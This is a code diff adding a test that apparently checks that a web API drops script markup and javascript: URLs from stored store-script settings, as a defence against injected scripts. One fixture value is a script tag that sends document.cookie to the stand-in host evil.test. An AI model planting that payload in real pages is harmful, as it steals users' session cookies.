@@ -228,3 +228,21 @@ it('answers CORS for the remote dev servers', async () => {
     'http://localhost:3002',
   );
 });
+
+it('answers only http(s) URLs for the store scripts: markup and javascript: are dropped (CSP, issue 8)', async () => {
+  await api.db.query(
+    `UPDATE stores SET ada_script = $1, google_analytics_script = $2, google_tag_script = $3 WHERE id = 1`,
+    [
+      ' https://static.ada.support/embed2.js ',
+      '<script>fetch("https://evil.test/?c=" + document.cookie)</script>',
+      'javascript:alert(1)',
+    ],
+  );
+  const res = await get('/white-label-settings?store_url=acme.localhost');
+  expect(res.status).toBe(200);
+  expect(res.body).toMatchObject({
+    ada_script: 'https://static.ada.support/embed2.js',
+    google_analytics_script: null,
+    google_tag_script: null,
+  });
+});
